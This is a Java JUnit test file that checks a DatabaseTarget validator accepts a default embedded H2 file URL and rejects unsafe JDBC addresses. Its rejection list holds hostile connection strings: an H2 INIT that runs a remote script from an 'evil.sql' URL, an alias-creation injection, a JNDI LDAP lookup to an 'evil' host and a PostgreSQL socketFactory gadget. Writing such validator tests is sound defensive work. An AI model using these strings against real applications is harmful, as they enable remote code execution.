package casecheck.batch.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

@Tag("E2")
class DatabaseTargetTest {

    @Test
    void defaultIsAnEmbeddedH2FileInTheDataDirectory() {
        DatabaseTarget t = DatabaseTarget.of(Path.of("/srv/cc"), null);
        assertThat(t.url()).startsWith("jdbc:h2:file:/srv/cc/casecheck").doesNotContain("AUTO_SERVER");
    }

    @Test
    void urlsThatRunCodeOrLeaveTheAllowListAreRejected() {
        for (String bad : new String[] {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x/evil.sql'",
                "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://x/evil.sql'",
                "jdbc:h2:file:/tmp/x;init = create alias x as 'void x(){}'",
                "jdbc:h2:file:/tmp/x;IGNORE_UNKNOWN_SETTINGS=TRUE",
                "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://evil/x", "jdbc:h2:mem:x", "jndi:ldap://evil/x",
                "jdbc:postgresql://db/cc?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"}) {
            assertThatThrownBy(() -> DatabaseTarget.of(Path.of("/srv/cc"), bad)).as(bad)
                    .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("不允许的数据库地址");
        }
        assertThat(DatabaseTarget.of(Path.of("/srv"), "jdbc:postgresql://db:5432/casecheck").isH2()).isFalse();
    }
}
